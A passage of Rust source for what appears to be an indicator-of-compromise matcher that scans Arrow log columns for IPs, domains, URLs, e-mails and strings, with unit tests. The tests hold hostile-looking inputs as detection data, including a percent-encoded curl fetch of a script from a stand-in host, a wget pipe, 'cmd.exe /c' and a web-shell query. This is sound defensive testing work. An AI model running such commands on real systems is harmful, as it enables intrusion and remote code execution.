/// column, dictionaries decoded (see [`crate::take::take_rows`]). The hits batches are taken
/// on all cores.
pub fn columns_at_hits(hits: &[RecordBatch], schema: &SchemaRef, batches: &[RecordBatch]) -> Result<Vec<Vec<ArrayRef>>, String> {
    hits.par_iter().map(|h| crate::take::take_rows(schema, batches, h.column(0).as_primitive::<UInt64Type>().values())).collect()
}

/// `hits` with the columns `fields` first, `kept[i]` holding those of batch `i` (from
/// [`columns_at_hits`]): the provenance and addresses a hits table shows.
pub fn hits_with_columns(
    hits: Vec<RecordBatch>,
    fields: Vec<arrow_schema::FieldRef>,
    kept: Vec<Vec<ArrayRef>>,
) -> Result<(SchemaRef, Vec<RecordBatch>), String> {
    if let Some(f) = fields.iter().find(|f| hits_schema().field_with_name(f.name()).is_ok()) {
        return Err(format!("a column to keep is named {:?}, as a column of the hits", f.name()));
    }
    let schema = Arc::new(Schema::new(fields.into_iter().chain(hits_schema().fields().iter().cloned()).collect::<Vec<_>>()));
    let batches = hits
        .into_iter()
        .zip(kept)
        .map(|(h, mut cols)| {
            cols.extend(h.columns().iter().cloned());
            RecordBatch::try_new(schema.clone(), cols).map_err(|e| e.to_string())
        })
        .collect::<Result<Vec<_>, String>>()?;
    Ok((schema, batches))
}

/// One group of [`merge_hits`]: `(part, batch)` by first row, each part's batches in order.
/// Each batch is a run, the runs ordered by part (a stable sort keeps a part's batches in
/// order), so a tie goes to the earlier part, or to the earlier batch of the same part.
fn merge_group(
    group: &[(usize, &RecordBatch)],
    rows: impl Fn(&RecordBatch) -> arrow_buffer::ScalarBuffer<u64>,
) -> Result<RecordBatch, String> {
    let mut batches: Vec<(usize, &RecordBatch)> = group.to_vec();
    batches.sort_by_key(|&(k, _)| k);
    if batches.len() == 1 {
        return Ok(batches[0].1.clone());
    }
    let row: Vec<arrow_buffer::ScalarBuffer<u64>> = batches.iter().map(|(_, b)| rows(b)).collect();
    let runs: Vec<&[u64]> = row.iter().map(|r| r.as_ref()).collect();
    let refs: Vec<&RecordBatch> = batches.iter().map(|(_, b)| *b).collect();
    interleave_record_batch(&refs, &merge_order(&runs)).map_err(|e| e.to_string())
}

/// The hits of one task as a table: the cells (`value`) and matched texts are copied from the
/// input columns (or the task's spill of decoded text) straight into the output buffers.
/// `base` is the global index of the batch's first row.
fn hits_batch(
    hits: &[Hit],
    spill: &[u8],
    base: u64,
    cols: &[(Col<'_>, Option<ArrayRef>)],
    specs: &[ColumnSpec],
) -> Result<RecordBatch, String> {
    let n = hits.len();
    // each hit's cell, read once (a random access into the column)
    let cells: Vec<&str> = hits.iter().map(|h| cols[h.col as usize].0.get_str(h.row).unwrap_or_default()).collect();
    let (mut value_bytes, mut matched_bytes, mut names_bytes) = (0, 0, 0);
    for (h, c) in hits.iter().zip(&cells) {
        value_bytes += c.len();
        matched_bytes += span_text(c.as_bytes(), spill, h.m).len();
        names_bytes += specs[h.col as usize].name.len();
    }
    // string views (what polars holds: its import copies nothing), each builder's buffer
    // sized for all its strings
    let views =
        |n: usize, bytes: usize| StringViewBuilder::with_capacity(n).with_fixed_block_size(bytes.clamp(1, u32::MAX as usize) as u32);
    let mut row = UInt64Builder::with_capacity(n);
    let mut column = views(n, names_bytes);
    let mut ioc = UInt32Builder::with_capacity(n);
    let mut value = views(n, value_bytes);
    // when every hit matched its whole cell (IP and domain columns), `matched` is `value`
    let whole = hits.iter().all(|h| h.m.is_cell());
    let mut matched = views(if whole { 0 } else { n }, if whole { 0 } else { matched_bytes });
    for (h, c) in hits.iter().zip(&cells) {
        row.append_value(base + h.row as u64);
        column.append_value(&specs[h.col as usize].name);
        ioc.append_value(h.ioc);
        value.append_value(c);
        if !whole {
            matched.append_value(span_str(c, spill, h.m));
        }
    }
    let value: ArrayRef = Arc::new(value.finish());
    let matched: ArrayRef = if whole { value.clone() } else { Arc::new(matched.finish()) };
    let cols: Vec<ArrayRef> = vec![Arc::new(row.finish()), Arc::new(column.finish()), Arc::new(ioc.finish()), value, matched];
    RecordBatch::try_new(hits_schema(), cols).map_err(|e| e.to_string())
}

/// The text of `span` as a string: a slice of the cell (spans of a cell fall on character
/// boundaries: tokens end at ASCII bytes and patterns are whole characters; checked, not
/// assumed) or the decoded text of the spill, lossily when it is not UTF-8.
fn span_str<'a>(cell: &'a str, spill: &'a [u8], span: Span) -> std::borrow::Cow<'a, str> {
    let bytes = span_text(cell.as_bytes(), spill, span);
    if !span.spilled {
        let start = bytes.as_ptr() as usize - cell.as_ptr() as usize;
        if let Some(s) = cell.get(start..start + bytes.len()) {
            return s.into();
        }
    }
    String::from_utf8_lossy(bytes)
}

/// Where a hit's matched text is: `len` bytes at `start` of the cell, or of the spill buffer
/// (text that is not in the cell: percent-decoded) when `spilled`.
#[derive(Clone, Copy, Debug)]
struct Span {
    start: u32,
    len: u32,
    spilled: bool,
}

impl Span {
    /// The whole cell (`len` is ignored then).
    const CELL: Span = Span { start: 0, len: u32::MAX, spilled: false };

    fn is_cell(self) -> bool {
        self.len == u32::MAX && !self.spilled
    }
}

/// The indicators found in the current cell, at most one per id, with where each matched.
#[derive(Default)]
struct Found {
    items: Vec<(u32, Span)>,
    /// the current cell's address range, to tell slices of it from decoded text
    cell: (usize, usize),
    /// matched texts that are not in their cell, for the whole task
    spill: Vec<u8>,
}

impl Found {
    #[inline]
    fn start_cell(&mut self, cell: &[u8]) {
        self.items.clear();
        self.cell = (cell.as_ptr() as usize, cell.len());
    }

    /// Record `ids` as matched by `m` (a slice of the current cell, or of a decoded copy).
    #[inline]
    fn emit(&mut self, ids: &[u32], m: &[u8]) {
        for &id in ids {
            if self.items.iter().any(|(x, _)| *x == id) {
                continue;
            }
            let off = (m.as_ptr() as usize).wrapping_sub(self.cell.0);
            let span = match (u32::try_from(off), u32::try_from(m.len())) {
                (Ok(start), Ok(len)) if off <= self.cell.1 && m.len() <= self.cell.1 - off => Span { start, len, spilled: false },
                _ => {
                    let start = u32::try_from(self.spill.len()).unwrap_or(u32::MAX);
                    self.spill.extend_from_slice(m);
                    Span { start, len: u32::try_from(m.len()).unwrap_or(0), spilled: true }
                }
            };
            self.items.push((id, span));
        }
    }

    /// The text of `span` for the cell `cell`.
    fn text<'a>(&'a self, cell: &'a [u8], span: Span) -> &'a [u8] {
        span_text(cell, &self.spill, span)
    }
}

#[inline]
fn span_text<'a>(cell: &'a [u8], spill: &'a [u8], span: Span) -> &'a [u8] {
    let src = if span.spilled { spill } else { cell };
    let start = (span.start as usize).min(src.len());
    let end = start.saturating_add(span.len as usize).min(src.len());
    &src[start..end]
}

/// A host name alone in a cell (not `host:port`, a URL, an e-mail, an IPv4 address, a list
/// or a padded name: no `:/@` and no byte up to `,`, which covers whitespace, `,` and
/// punctuation no host has): the domain table is probed directly.
#[inline]
fn plain_host(cell: &[u8]) -> bool {
    let n = cell.len();
    if n == 0 || cell[0].is_ascii_digit() {
        return false;
    }
    let special = |v: Bytes16| v.eq_any(b":/@") | v.in_range(0, b',');
    if (8..=32).contains(&n) {
        // most host names: four 8-byte words that cover the cell (overlapping, a byte read
        // twice is harmless), with no branch on the length
        let rd = |i: usize| u128::from(u64::from_le_bytes(cell[i..i + 8].try_into().expect("8 bytes")));
        let (a, b) = (rd(0) | rd(8.min(n - 8)) << 64, rd(16.min(n - 8)) | rd(n - 8) << 64);
        return special(Bytes16::from_u128(a)) | special(Bytes16::from_u128(b)) == 0;
    }
    // 16 bytes a step, the last step overlapping the one before
    if n <= 16 {
        // (the zero bytes past the cell are not in it)
        return special(Bytes16::load_prefix(cell)) & ((1 << n) - 1) == 0;
    }
    let at = |i: usize| Bytes16::load(cell[i..i + 16].try_into().expect("16 bytes"));
    let mut any = special(at(n - 16));
    let mut i = 0;
    while i + 16 < n {
        any |= special(at(i));
        i += 16;
    }
    any == 0
}

/// Non-ASCII label characters around a token of text (see [`super::text::label_before`]),
/// as addresses in the text: a host starting at `start` continues the label of the
/// character before it, a host ending at `end` the label of the one after it (0: none).
#[derive(Clone, Copy)]
struct Edges {
    start: usize,
    end: usize,
}

impl Edges {
    const NONE: Edges = Edges { start: 0, end: 0 };

    /// A host of `t` ending at `end`, after a delimiter.
    fn after(t: &[u8], end: usize) -> Edges {
        Edges { start: 0, end: if label_after(t, end) { t[end..].as_ptr() as usize } else { 0 } }
    }
}

/// An interface or field name before a colon (`outside`, `src_if-2`, `dmz1`): a letter or
/// `_` first, then letters, digits, `_`, `-`; not a group of an IPv6 address, a MAC address
/// or a time (`aa`, `dead`, `12`).
fn is_name(b: &[u8]) -> bool {
    matches!(b.first(), Some(c) if c.is_ascii_alphabetic() || *c == b'_')
        && b.iter().all(|&c| c.is_ascii_alphanumeric() || c == b'_' || c == b'-')
        && !(b.len() <= 4 && b.iter().all(u8::is_ascii_hexdigit))
}

/// Bytes that separate the items of a list of hosts in a domain cell (and pad one).
#[inline]
fn list_separator(b: u8) -> bool {
    b == b',' || b.is_ascii_whitespace()
}

#[derive(Default)]
struct Ctx {
    a: Vec<u8>,
    b: Vec<u8>,
}

/// One hit: row in its batch, column (spec index), indicator, where it matched.
#[derive(Clone, Copy)]
struct Hit {
    row: usize,
    col: u32,
    ioc: u32,
    m: Span,
}

#[inline]
fn trim<'a>(mut t: &'a [u8], chars: &[u8]) -> &'a [u8] {
    while let [first, rest @ ..] = t {
        if chars.contains(first) {
            t = rest;
        } else {
            break;
        }
    }
    while let [rest @ .., last] = t {
        if chars.contains(last) {
            t = rest;
        } else {
            break;
        }
    }
    t
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ioc::normalize;
    use arrow_array::cast::AsArray;
    use arrow_array::{LargeStringArray, StringArray, StringViewArray};

    fn concat(batches: Vec<RecordBatch>) -> RecordBatch {
        arrow_select::concat::concat_batches(&hits_schema(), &batches).unwrap()
    }

    fn set(iocs: &[(&str, &str)]) -> IocMatcher {
        let v: Vec<(Kind, String)> = iocs.iter().map(|(k, v)| normalize(Kind::parse(k).unwrap(), v).unwrap()).collect();
        IocMatcher::new(&v).unwrap()
    }

    fn ids(m: &IocMatcher, role: Role, cell: &str) -> Vec<u32> {
        let mut v: Vec<u32> = m.match_cell(role, cell.as_bytes()).into_iter().map(|(i, _)| i).collect();
        v.sort_unstable();
        v
    }

    #[test]
    fn embedded_indicators() {
        let m = set(&[
            ("ip", "203.0.113.7"),
            ("domain", "evil.com"),
            ("url", "http://203.0.113.7/x.sh"),
            ("uri", "/service/extension/backup/mboximport"),
            ("string", "account-name=admin&ow=1&no-switch=true"),
            ("sha256", &"ab".repeat(32)),
            ("email", "bad@evil.org"),
        ]);
        assert_eq!(ids(&m, Role::Text, "http://203.0.113.7/x.sh"), vec![0, 2]);
        assert_eq!(ids(&m, Role::Text, "http://203.0.113.7/x.shell"), vec![0]);
        assert_eq!(ids(&m, Role::Text, "HTTP://203.0.113.7/x.sh?a=1"), vec![0, 2]);
        assert_eq!(ids(&m, Role::Text, "/x.sh"), Vec::<u32>::new());
        assert_eq!(ids(&m, Role::Text, "evil.com:443"), vec![1]);
        assert_eq!(ids(&m, Role::Text, "/s?cmd=curl%20http%3A%2F%2F203.0.113.7%2Fx.sh"), vec![0, 2]);
        assert_eq!(ids(&m, Role::Text, "/go?u=https%253A%252F%252Fcdn.evil.com%252F"), vec![1]);
        assert_eq!(ids(&m, Role::Text, "/service/extension/backup/mboximport?account-name=admin&ow=1&no-switch=true"), vec![3, 4]);
        assert_eq!(ids(&m, Role::Text, &format!("/f/{}", "AB".repeat(32))), vec![5]);
        assert_eq!(ids(&m, Role::Text, "from Bad@Evil.org"), vec![6]);
        assert_eq!(ids(&m, Role::Text, "http://myevil.com/ http://evil.com.cdn.net/ 203.0.113.70"), Vec::<u32>::new());
        assert_eq!(ids(&m, Role::Domain, "WWW.EVIL.COM."), vec![1]);
        assert_eq!(ids(&m, Role::Domain, "evil.co"), Vec::<u32>::new());
        assert_eq!(ids(&m, Role::Ip, "203.0.113.7"), vec![0]);
        assert_eq!(ids(&m, Role::Ip, "::ffff:203.0.113.7"), vec![0]);
        assert_eq!(ids(&m, Role::Ip, "10.1.1.1, 203.0.113.7"), vec![0]);
        assert_eq!(ids(&m, Role::Ip, "203.0.113.70"), Vec::<u32>::new());
        let v6 = set(&[("ip", "2001:db8::")]);
        assert_eq!(ids(&v6, Role::Text, "from [2001:db8::]:443"), vec![0]);
        assert_eq!(ids(&v6, Role::Text, "from 2001:db8:: to"), vec![0]);
        assert_eq!(ids(&m, Role::Email, "BAD@evil.org"), vec![6]);
        assert_eq!(ids(&m, Role::Email, "x@a.evil.com"), vec![1]);
        // a URL indicator without a scheme: texts without `://` are searched for it too
        let bare = set(&[("url", "evil.example/dl/x.sh"), ("url", "http://203.0.113.7/x.sh")]);
        assert_eq!(ids(&bare, Role::Text, "GET evil.example/dl/x.sh"), vec![0]);
        assert_eq!(ids(&bare, Role::Text, "http://203.0.113.7/x.sh"), vec![1]);
    }

    fn matched(m: &IocMatcher, role: Role, cell: &str) -> Vec<(u32, String)> {
        let mut v = m.match_cell(role, cell.as_bytes());
        v.sort();
        v
    }

    #[test]
    fn email_addresses_in_text_and_email_cells() {
        let m = set(&[("email", "bad+tag@evil.org"), ("email", "x@evil.net"), ("email", "o'brien@corp.example"), ("domain", "evil.org")]);
        let hit = |id: u32, s: &str| (id, s.to_string());
        for role in [Role::Text, Role::Email] {
            assert_eq!(matched(&m, role, "from=<bad+tag@evil.org>"), vec![hit(0, "bad+tag@evil.org"), hit(3, "evil.org")], "{role:?}");
            assert_eq!(matched(&m, role, "Bad <BAD+Tag@Evil.ORG>"), vec![hit(0, "BAD+Tag@Evil.ORG"), hit(3, "Evil.ORG")], "{role:?}");
            assert_eq!(matched(&m, role, "mailto:x@evil.net"), vec![hit(1, "x@evil.net")], "{role:?}");
            assert_eq!(matched(&m, role, "<x@evil.net>"), vec![hit(1, "x@evil.net")], "{role:?}");
            assert_eq!(matched(&m, role, "x@evil.net"), vec![hit(1, "x@evil.net")], "{role:?}");
            assert_eq!(matched(&m, role, "bad@evil.org, x@evil.net"), vec![hit(1, "x@evil.net"), hit(3, "evil.org")], "{role:?}");
            assert_eq!(
                matched(&m, role, "to='x@evil.net'; cc=\"O'Brien@corp.example\""),
                vec![hit(1, "x@evil.net"), hit(2, "O'Brien@corp.example")]
            );
            assert_eq!(ids(&m, role, "account=x@evil.net;"), vec![1], "key=value: {role:?}");
            assert_eq!(ids(&m, role, "GET /u/x@evil.net/inbox?to=x@evil.net."), vec![1], "{role:?}");
            assert_eq!(ids(&m, role, "Sent to x@evil.net."), vec![1], "{role:?}");
            // other mailboxes: a longer local part, another domain, a sub-address
            for miss in [
                "ax@evil.net",
                "a.x@evil.net",
                "x+y@evil.net",
                "x@evil.network",
                "x@a.evil.net",
                "bad@evil.org",
                "tag@evil.org",
                "éx@evil.net",
            ] {
                assert!(ids(&m, role, miss).iter().all(|&i| i == 3), "{miss} {role:?}");
            }
        }
        // the domain of every address is a host of the domain indicators
        assert_eq!(ids(&m, Role::Email, "nobody@mx.evil.org"), vec![3]);
        assert_eq!(ids(&m, Role::Email, "nobody"), Vec::<u32>::new());
    }

    /// Cells written by an attacker: every `@` and every local-part byte is read a bounded
    /// number of times (linear, no backtracking).
    #[test]
    fn email_scan_is_linear() {
        let m = set(&[("email", "a@a.com"), ("email", &format!("a{}@b.org", "=a".repeat(30))), ("domain", "c.net")]);
        let cells = [
            "a@".repeat(500_000),
            "+".repeat(1 << 20),
            format!("{}@a.com", "+".repeat(1 << 20)),
            format!("{}@b.org", "=a".repeat(1 << 19)),
            "@a.com".repeat(170_000),
            format!("x@{}", "a".repeat(1 << 20)),
        ];
        // 6 MB: a few ms when linear, hours when quadratic (no timed assertion: a shared
        // machine makes those flaky; a quadratic scan shows as a test that does not end)
        for role in [Role::Text, Role::Email] {
            for c in &cells {
                assert!(m.match_cell(role, c.as_bytes()).len() <= 1, "{role:?}");
            }
        }
        assert_eq!(ids(&m, Role::Text, &format!("{}@b.org", "=a".repeat(1 << 19))), vec![1]);
        assert_eq!(ids(&m, Role::Text, &"@a.com".repeat(1000)), Vec::<u32>::new());
        assert_eq!(ids(&m, Role::Text, &format!("{} a@a.com", "a@".repeat(1000))), vec![0]);
    }

    #[test]
    fn ipv6_after_a_name_and_colon() {
        let m = set(&[("ip", "2001:db8::1"), ("ip", "203.0.113.7"), ("cidr", "2001:db8:0:1::/64")]);
        let asa = "%ASA-6-302013: Built inbound TCP connection 42 for outside:2001:db8::1/52412 (2001:db8::1/52412) to inside:10.0.0.1/443";
        assert_eq!(matched(&m, Role::Text, asa), vec![(0, "2001:db8::1".to_string())]);
        assert_eq!(ids(&m, Role::Text, "for outside:2001:db8::1/52412 to"), vec![0]);
        assert_eq!(ids(&m, Role::Text, "for outside:203.0.113.7/52412 to"), vec![1]);
        assert_eq!(ids(&m, Role::Text, "src:2001:db8::1 dst:2001:db8:0:1::9"), vec![0, 2]);
        assert_eq!(ids(&m, Role::Text, "src_if-2:2001:DB8:0:0:0:0:0:1"), vec![0]);
        assert_eq!(ids(&m, Role::Ip, "outside:2001:db8::1"), vec![0]);
        // times, MAC addresses, other colon lists: no address
        let n = set(&[("cidr", "::/0"), ("ip", "12::34:56"), ("ip", "1a:2b:3c:4d:5e::")]);
        for miss in ["at 12:34:56 on", "mac 00:1a:2b:3c:4d:5e", "mac=aa:bb:cc:dd:ee:ff", "t:12:34:56", "x:00:1a:2b:3c:4d:5e", "a:b:c"] {
            assert_eq!(ids(&n, Role::Text, miss), Vec::<u32>::new(), "{miss}");
        }
    }

    #[test]
    fn wide_ipv6_networks_do_not_match_ipv4() {
        let m = set(&[("cidr", "::/8"), ("cidr", "::/0"), ("cidr", "::ffff:203.0.113.0/120"), ("cidr", "2001:db8::/32")]);
        for role in [Role::Ip, Role::Text] {
            assert_eq!(ids(&m, role, "8.8.8.8"), Vec::<u32>::new(), "{role:?}");
            assert_eq!(ids(&m, role, "::ffff:8.8.8.8"), Vec::<u32>::new(), "{role:?}");
            assert_eq!(ids(&m, role, "203.0.113.7"), vec![2], "{role:?}");
            assert_eq!(ids(&m, role, "::ffff:203.0.113.7"), vec![2], "{role:?}");
            assert_eq!(ids(&m, role, "::1"), vec![0, 1], "{role:?}");
            assert_eq!(ids(&m, role, "2001:db8::5"), vec![1, 3], "{role:?}");
        }
        assert_eq!(ids(&m, Role::Domain, "203.0.113.7"), vec![2]);
    }

    #[test]
    fn domain_cells_padded_or_listed() {
        let m = set(&[("domain", "evil.com"), ("ip", "203.0.113.7"), ("domain", "bad.org")]);
        for cell in [
            "evil.com ",
            " evil.com",
            "evil.com\t",
            "\tWWW.evil.com.\r\n",
            "evil.com,other.com",
            "other.com, evil.com",
            "a.net evil.com:443",
        ] {
            assert_eq!(ids(&m, Role::Domain, cell), vec![0], "{cell:?}");
        }
        assert_eq!(
            matched(&m, Role::Domain, "x.bad.org, evil.com ,203.0.113.7"),
            vec![(0, "evil.com".to_string()), (1, "203.0.113.7".to_string()), (2, "x.bad.org".to_string())]
        );
        for miss in [" ", ",", "notevil.com ", "evil.com.x, , myevil.com", "evil .com"] {
            assert_eq!(ids(&m, Role::Domain, miss), Vec::<u32>::new(), "{miss:?}");
        }
        // through the column loop too (the fast path sends such cells to the slow one)
        let cells = vec![Some("evil.com"), Some(" evil.com"), Some("a.org,b.evil.com"), Some("evil.org"), Some("bad.org\n")];
        let batch = RecordBatch::try_from_iter([("d", Arc::new(StringViewArray::from(cells)) as ArrayRef)]).unwrap();
        let specs = [ColumnSpec { name: "d".into(), role: Role::Domain, unless: None }];
        let hits = concat(m.match_batches(&[batch], &specs).unwrap());
        let rows: Vec<u64> = hits.column(0).as_primitive::<arrow_array::types::UInt64Type>().values().to_vec();
        let matched: Vec<&str> = hits.column(4).as_string_view().iter().map(Option::unwrap).collect();
        assert_eq!((rows, matched), (vec![0, 1, 2, 4], vec!["evil.com", "evil.com", "b.evil.com", "bad.org"]));
    }

    #[test]
    fn non_ascii_letters_continue_a_label_in_text() {
        let m = set(&[("domain", "evil.com"), ("ip", "203.0.113.7"), ("email", "x@evil.com")]);
        for miss in [
            "http://ñevil.com/",
            "http://bücherevil.com/",
            "GET http://éevil.com/x",
            "http://приветevil.com/",
            "访问evil.com被阻止",
            "host=evil.comñ",
            "CONNECT ñevil.com:443",
            "http://\u{ff}evil.com/",
        ] {
            assert_eq!(ids(&m, Role::Text, miss), Vec::<u32>::new(), "{miss}");
        }
        // as a domain cell reads them
        for cell in ["ñevil.com", "приветevil.com", "ñevil.com:443"] {
            assert_eq!(ids(&m, Role::Domain, cell), Vec::<u32>::new(), "{cell}");
        }
        for hit in [
            "http://ñ.evil.com/",
            "http://www.ñevil.evil.com/",
            "«evil.com»",
            "「evil.com」",
            "访问 evil.com。",
            "访问：evil.com，被阻止",
            "привет evil.com",
            "GET http://evil.com/ñ",
        ] {
            assert_eq!(ids(&m, Role::Text, hit), vec![0], "{hit}");
        }
        // addresses and hashes are not labels
        assert_eq!(ids(&m, Role::Text, "来自203.0.113.7的连接"), vec![1]);
        // a non-ASCII letter before an address is part of its local part (RFC 6531)
        assert_eq!(ids(&m, Role::Text, "mail éx@evil.com"), vec![0]);
        assert_eq!(ids(&m, Role::Text, "发件人x@evil.com。"), vec![0]);
        assert_eq!(ids(&m, Role::Text, "发件人：x@evil.com。"), vec![0, 2]);
    }

    #[test]
    fn file_name_strings_match_whole_names() {
        let m = set(&[
            ("string", "x.sh"),
            ("string", "a.js"),
            ("string", "cmd.exe /c"),
            ("string", "account-name=admin&ow=1"),
            ("string", ".php?cmd="),
        ]);
        for hit in ["/dl/x.sh", "/dl/x.sh?a=1", "wget http://h/x.sh -O-", "\"x.sh\"", "x.sh", "sh x.sh&&", "/x.sh.bak", "C:\\tmp\\x.sh"] {
            assert_eq!(ids(&m, Role::Text, hit), vec![0], "{hit}");
        }
        for miss in ["/index.shtml", "/ax.sh", "/x.sh_old", "/x.sh-1", "/a.x.sh2", "my.x.sh"] {
            assert_eq!(ids(&m, Role::Text, miss), Vec::<u32>::new(), "{miss}");
        }
        assert_eq!(ids(&m, Role::Text, "/app/data.json"), Vec::<u32>::new());
        assert_eq!(ids(&m, Role::Text, "/static/a.js?v=3"), vec![1]);
        // a later occurrence on name boundaries still matches; encoded ones once decoded
        assert_eq!(ids(&m, Role::Text, "/index.shtml?f=x.sh"), vec![0]);
        assert_eq!(ids(&m, Role::Text, "/go?f=%2Fx.sh"), vec![0]);
        // other strings stay substrings
        assert_eq!(ids(&m, Role::Text, "runcmd.exe /c dir"), vec![2]);
        assert_eq!(ids(&m, Role::Text, "?xaccount-name=admin&ow=1x"), vec![3]);
        assert_eq!(ids(&m, Role::Text, "/shell.php?cmd=id"), vec![4]);
    }

    #[test]
    fn user_agents_exact() {
        let ua = "Mozilla/5.0 (X11; Linux x86_64; rv:101.0) Gecko/20100101 Firefox/101.0";
        let m = set(&[("user_agent", ua)]);
        assert_eq!(ids(&m, Role::UserAgent, ua), vec![0]);
        assert!(ids(&m, Role::UserAgent, &format!("{ua} ")).is_empty());
        assert!(ids(&m, Role::UserAgent, "curl/8.0").is_empty());
    }

    #[test]
    fn batches_of_every_layout() {
        use arrow_array::{types::Int32Type, DictionaryArray};
        let m = set(&[("cidr", "198.51.100.0/22"), ("domain", "evil.com")]);
        let ips = vec![Some("198.51.101.9"), None, Some("198.51.104.1"), Some("198.51.103.255")];
        let doms = vec![Some("a.evil.com"), Some("evil.com"), None, Some("notevil.com")];
        let cols: Vec<(ArrayRef, ArrayRef)> = vec![
            (Arc::new(StringArray::from(ips.clone())), Arc::new(StringArray::from(doms.clone()))),
            (Arc::new(LargeStringArray::from(ips.clone())), Arc::new(LargeStringArray::from(doms.clone()))),
            (Arc::new(StringViewArray::from(ips.clone())), Arc::new(StringViewArray::from(doms.clone()))),
            (
                Arc::new(ips.iter().copied().collect::<DictionaryArray<Int32Type>>()),
                Arc::new(doms.iter().copied().collect::<DictionaryArray<Int32Type>>()),
            ),
        ];
        for (a, b) in cols {
            let batch = RecordBatch::try_from_iter([("src_ip", a), ("domain", b)]).unwrap();
            let specs = [
                ColumnSpec { name: "src_ip".into(), role: Role::Ip, unless: None },
                ColumnSpec { name: "domain".into(), role: Role::Domain, unless: None },
            ];
            let hits = concat(m.match_batches(&[batch.clone(), batch], &specs).unwrap());
            let rows: Vec<u64> = hits.column(0).as_primitive::<arrow_array::types::UInt64Type>().values().to_vec();
            let iocs: Vec<u32> = hits.column(2).as_primitive::<arrow_array::types::UInt32Type>().values().to_vec();
            assert_eq!(rows, vec![0, 0, 1, 3, 4, 4, 5, 7]);
            assert_eq!(iocs, vec![0, 1, 1, 0, 0, 1, 1, 0]);
        }
    }

    /// Dictionary columns: each dictionary's values are matched once, rows read only when
    /// their value matches; two batches with different dictionaries are not confused, and
    /// decoded text (in the spill) still reports.
    #[test]
    fn dictionaries_matched_per_value() {
        use arrow_array::{types::Int32Type, DictionaryArray, Int32Array};
        let m = set(&[("domain", "evil.com"), ("url", "http://203.0.113.7/x.sh")]);
        let dict = |values: &[&str], keys: &[Option<i32>]| -> ArrayRef {
            Arc::new(
                DictionaryArray::<Int32Type>::try_new(Int32Array::from(keys.to_vec()), Arc::new(StringArray::from(values.to_vec())))
                    .unwrap(),
            )
        };
        let values = ["a.evil.com", "x.org", "/go?u=http%3A%2F%2F203.0.113.7%2Fx.sh"];
        let b1 = RecordBatch::try_from_iter([("url", dict(&values, &[Some(1), Some(0), None, Some(2), Some(1)]))]).unwrap();
        // another dictionary, whose values match in another pattern ([no, yes, yes])
        let b2 = RecordBatch::try_from_iter([("url", dict(&[values[1], values[0], values[2]], &[Some(1), Some(0), Some(2)]))]).unwrap();
        let specs = [ColumnSpec { name: "url".into(), role: Role::Text, unless: None }];
        let hits = concat(m.match_batches(&[b1.clone(), b2, b1], &specs).unwrap());
        let rows: Vec<u64> = hits.column(0).as_primitive::<arrow_array::types::UInt64Type>().values().to_vec();
        let matched: Vec<&str> = hits.column(4).as_string_view().iter().map(Option::unwrap).collect();
        assert_eq!(rows, vec![1, 3, 5, 7, 9, 11]);
        let url = "http://203.0.113.7/x.sh";
        assert_eq!(matched, vec!["a.evil.com", url, "a.evil.com", url, "a.evil.com", url]);
    }

    #[test]
    fn dictionary_rows_of_every_key_type_nulls_and_slices() {
        use arrow_array::types::{Int64Type, UInt16Type, UInt8Type};
        use arrow_array::{DictionaryArray, Int64Array, PrimitiveArray, UInt16Array, UInt8Array};
        use arrow_buffer::NullBuffer;
        let m = set(&[("ip", "203.0.113.7"), ("domain", "evil.com")]);
        let values: ArrayRef = Arc::new(StringArray::from(vec!["10.0.0.1", "203.0.113.7", "a.evil.com"]));
        // row 1 is null, its key slot holds the key of a matching value: never read
        let valid = Some(NullBuffer::from(vec![true, false, true, true, true, true]));
        let raw = [1i64, 1, 0, 2, 1, 0];
        fn dict<K: arrow_array::types::ArrowDictionaryKeyType>(keys: PrimitiveArray<K>, values: &ArrayRef) -> ArrayRef {
            Arc::new(DictionaryArray::<K>::try_new(keys, values.clone()).unwrap())
        }
        let cols = [
            dict::<UInt8Type>(UInt8Array::new(raw.iter().map(|&k| k as u8).collect(), valid.clone()), &values),
            dict::<UInt16Type>(UInt16Array::new(raw.iter().map(|&k| k as u16).collect(), valid.clone()), &values),
            dict::<Int64Type>(Int64Array::new(raw.to_vec().into(), valid.clone()), &values),
        ];
        let specs = [ColumnSpec { name: "c".into(), role: Role::Domain, unless: None }];
        for col in cols {
            let b = RecordBatch::try_from_iter([("c", col.clone())]).unwrap();
            let hits = concat(m.match_batches(&[b], &specs).unwrap());
            let rows: Vec<u64> = hits.column(0).as_primitive::<arrow_array::types::UInt64Type>().values().to_vec();
            assert_eq!(rows, vec![0, 3, 4], "{}", col.data_type());
            // a slice: rows numbered from the slice's start, its keys and nulls offset with it
            let b = RecordBatch::try_from_iter([("c", col.slice(1, 4))]).unwrap();
            let hits = concat(m.match_batches(&[b], &specs).unwrap());
            let rows: Vec<u64> = hits.column(0).as_primitive::<arrow_array::types::UInt64Type>().values().to_vec();
            let value: Vec<&str> = hits.column(3).as_string_view().iter().map(Option::unwrap).collect();
            assert_eq!((rows, value), (vec![2, 3], vec!["a.evil.com", "203.0.113.7"]), "{}", col.data_type());
        }
    }

    /// `value` is the cell and `matched` the text that matched: a part of the cell, the whole
    /// cell, or text that is only in the percent-decoded cell.
    #[test]
    fn value_and_matched_columns() {
        let m = set(&[("ip", "203.0.113.7"), ("domain", "evil.com"), ("url", "http://203.0.113.7/x.sh")]);
        let urls = ["x /s?cmd=curl%20http%3A%2F%2F203.0.113.7%2Fx.sh", "CONNECT a.evil.com:443", "é 203.0.113.7 ü"];
        let doms = ["www.EVIL.com", "nope.org", "evil.com:8443"];
        let batch = RecordBatch::try_from_iter([
            ("url", Arc::new(StringViewArray::from(urls.to_vec())) as ArrayRef),
            ("domain", Arc::new(StringArray::from(doms.to_vec())) as ArrayRef),
        ])
        .unwrap();
        let specs = [
            ColumnSpec { name: "url".into(), role: Role::Text, unless: None },
            ColumnSpec { name: "domain".into(), role: Role::Domain, unless: None },
        ];
        let hits = concat(m.match_batches(&[batch], &specs).unwrap());
        let text = |c: usize| -> Vec<String> { hits.column(c).as_string_view().iter().map(|v| v.unwrap().to_string()).collect() };
        let got: Vec<(String, String, String)> = text(1).into_iter().zip(text(3)).zip(text(4)).map(|((c, v), m)| (c, v, m)).collect();
        let want = [
            ("url", urls[0], "203.0.113.7"),
            ("url", urls[0], "http://203.0.113.7/x.sh"),
            ("domain", doms[0], doms[0]),
            ("url", urls[1], "a.evil.com"),
            ("url", urls[2], "203.0.113.7"),
            ("domain", doms[2], "evil.com"),
        ];
